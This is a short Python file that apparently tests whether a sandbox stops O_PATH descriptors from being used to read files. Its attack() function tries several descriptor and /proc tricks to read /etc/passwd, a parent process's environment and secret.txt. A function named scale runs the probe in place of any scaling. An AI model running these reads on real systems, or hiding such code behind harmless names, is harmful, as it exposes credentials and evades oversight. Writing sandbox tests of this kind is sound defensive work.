"""Opens folders without the right to read them (O_PATH), and from there files by relative names and through /proc/self/fd.

Must end: a descriptor of that kind opens nothing.
Outcomes: failed, skipped, passed
"""

import os

import torch


def attack():
    loot, home = [], os.open(".", os.O_PATH)
    for path in ("/", "/etc", f"/proc/{os.getppid()}", ".."):
        try:
            folder = os.open(path, os.O_PATH)
        except OSError:
            continue
        for name in ("etc/passwd", "passwd", "environ", "secret.txt"):
            ways = [lambda: os.open(name, os.O_RDONLY, dir_fd=folder), lambda: os.open(f"/proc/self/fd/{folder}/{name}", os.O_RDONLY)]
            ways += [lambda: os.open(f"/dev/fd/{os.open(name, os.O_PATH, dir_fd=folder)}", os.O_RDONLY)]
            ways += [lambda: (os.fchdir(folder), os.open(name, os.O_RDONLY))[1]]
            for way in ways:
                try:
                    loot.append((path, name, os.read(way(), 80)))
                except OSError:
                    continue
        os.fchdir(home)
    return f"BREACH: read {loot}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
